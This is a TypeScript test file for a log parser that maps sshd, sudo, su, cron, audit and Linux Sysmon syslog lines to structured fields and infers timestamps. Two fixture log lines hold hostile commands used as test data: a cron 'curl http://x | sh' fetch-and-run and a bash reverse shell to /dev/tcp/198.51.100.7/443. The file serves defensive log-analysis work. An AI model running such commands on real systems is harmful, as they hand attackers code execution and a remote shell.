import { describe, expect, test } from "vitest";
import { pick, read } from "./read.ts";

const MODIFIED = "2024-02-10T00:00:00Z";
const event = (line: string, modified: string | null = MODIFIED) =>
  read(line, "web01/var/log/auth.log", modified).events[0];

describe("messages of Linux programs", () => {
  test.each<[string, Record<string, unknown>]>([
    [
      "sshd[12]: Accepted password for alice from 203.0.113.5 port 4242 ssh2",
      {
        "event.action": ["ssh_login", "logged-in"],
        "event.outcome": "success",
        "event.category": "authentication",
        "user.name": "alice",
        "source.ip": "203.0.113.5",
        "source.port": 4242,
        "process.name": "sshd",
        "process.pid": 12,
      },
    ],
    [
      "sshd[12]: Failed password for invalid user x from 1.1.1.1 port 1 ssh2 from 203.0.113.5 port 4242 ssh2",
      { "event.action": ["ssh_login", "logon-failed"], "event.outcome": "failure", "source.port": 1 },
    ],
    ["sshd[12]: Invalid user oracle from 203.0.113.5", { "event.action": "invalid-user", "user.name": "oracle" }],
    [
      "sshd[12]: Disconnected from user alice 203.0.113.5 port 4242",
      { "event.action": "disconnect_received", "user.name": "alice" },
    ],
    [
      "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c id",
      {
        "event.action": "ran-command",
        "event.type": "start",
        "user.name": "alice",
        "user.effective.name": "root",
        "process.command_line": "/bin/bash -c id",
        "process.args": ["/bin/bash", "-c", "id"],
        "process.working_directory": "/home/alice",
      },
    ],
    [
      "su[5]: (to root) alice on pts/0",
      { "event.action": "switched-user", "user.name": "alice", "user.effective.name": "root" },
    ],
    [
      "su: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)",
      { "event.action": "started-session", "user.name": "root", "user.id": "0" },
    ],
    [
      "useradd[9]: new user: name=eve, UID=1002, GID=1002, home=/home/eve",
      { "event.action": "added-user-account", "user.target.name": "eve", "event.type": ["user", "creation"] },
    ],
    [
      "CRON[77]: (root) CMD (curl http://x | sh)",
      { "event.action": "ran-command", "user.name": "root", "process.command_line": "curl http://x | sh" },
    ],
    ["kernel: [1.2] something else", { message: "[1.2] something else", "process.name": "kernel" }],
  ])("%s", (message, expected) => {
    const found = event(`Feb  3 10:00:00 web ${message}`);
    expect(pick(found, ...Object.keys(expected))).toEqual(expected);
    expect(pick(found, "@timestamp", "host.name", "host.os.type")).toEqual({
      "@timestamp": "2024-02-03T10:00:00",
      "host.name": "web",
      "host.os.type": "linux",
    });
  });

  test("what one audit record, or Sysmon, says in syslog", () => {
    const audit = event(
      "Feb  3 10:00:00 web audispd: type=USER_LOGIN msg=audit(1604994496.155:1): pid=1 uid=0 msg='acct=\"bob\" addr=203.0.113.5 res=failed'",
    );
    expect(pick(audit, "@timestamp", "event.action", "user.name", "source.ip", "event.outcome")).toEqual({
      "@timestamp": "1604994496.155",
      "event.action": ["user_login", "logged-in"],
      "user.name": "bob",
      "source.ip": "203.0.113.5",
      "event.outcome": "failure",
    });
    const sysmon = event(
      'Feb  3 10:00:00 web sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{x}"/><EventID>1</EventID>' +
        '<TimeCreated SystemTime="2024-02-03T09:00:00.123456000Z"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web</Computer></System>' +
        '<EventData><Data Name="ProcessGuid">{g}</Data><Data Name="ProcessId">7</Data><Data Name="Image">/usr/bin/bash</Data>' +
        '<Data Name="CommandLine">bash -i &gt;&amp; /dev/tcp/198.51.100.7/443 0&gt;&amp;1</Data><Data Name="ParentProcessGuid">{p}</Data></EventData></Event>',
    );
    expect(
      pick(
        sysmon,
        "@timestamp",
        "event.action",
        "process.command_line",
        "process.entity_id",
        "process.parent.entity_id",
        "event.type",
      ),
    ).toEqual({
      "@timestamp": "2024-02-03T09:00:00.123456000Z",
      "event.action": ["exec", "Process Create (rule: ProcessCreate)"],
      "process.command_line": "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
      "process.entity_id": "{g}",
      "process.parent.entity_id": "{p}",
      "event.type": "start",
    });
  });
});

describe("times", () => {
  test("a year that is not written is the last in which the day was, and marked as derived", () => {
    expect(pick(event("Dec 31 23:59:59 web x: y"), "@timestamp", "eqlite.derived")).toEqual({
      "@timestamp": "2023-12-31T23:59:59",
      "eqlite.derived": ["@timestamp", "host.id"],
    });
    expect(event("Feb 11 00:00:00 web x: y")?.["@timestamp"]).toBe("2024-02-11T00:00:00");
    expect(event("Feb 29 00:00:00 web x: y")?.["@timestamp"]).toBe("2020-02-29T00:00:00");
  });

  test("without a date of the file there is none", () => {
    expect(event("Dec 31 23:59:59 web x: y", null)).not.toHaveProperty(["@timestamp"]);
  });

  test.each([
    ["2024-02-03T10:00:00.123456+01:00 web sshd[1]: x", "2024-02-03T10:00:00.123456+01:00"],
    ['<34>1 2024-02-03T10:00:00.003Z web sshd 1 ID [a b="\\]"] x', "2024-02-03T10:00:00.003Z"],
    ["<34>Feb  3 10:00:00 web sshd[1]: x", "2024-02-03T10:00:00"],
  ])("%s", (line, time) => {
    expect(pick(event(line), "@timestamp", "host.name", "process.name", "process.pid", "message")).toEqual({
      "@timestamp": time,
      "host.name": "web",
      "process.name": "sshd",
      "process.pid": 1,
      message: "x",
    });
  });
});

test("lines that are none are rejected", () => {
  const { format, rejected, events } = read(
    "Feb  3 10:00:00 web a: b\nFeb  3 10:00:00 web a: b\n-- MARK --\n\n",
    "x",
    MODIFIED,
  );
  expect({ format, rejected, count: events.length }).toEqual({
    format: "syslog",
    rejected: ["3: not-syslog"],
    count: 2,
  });
});
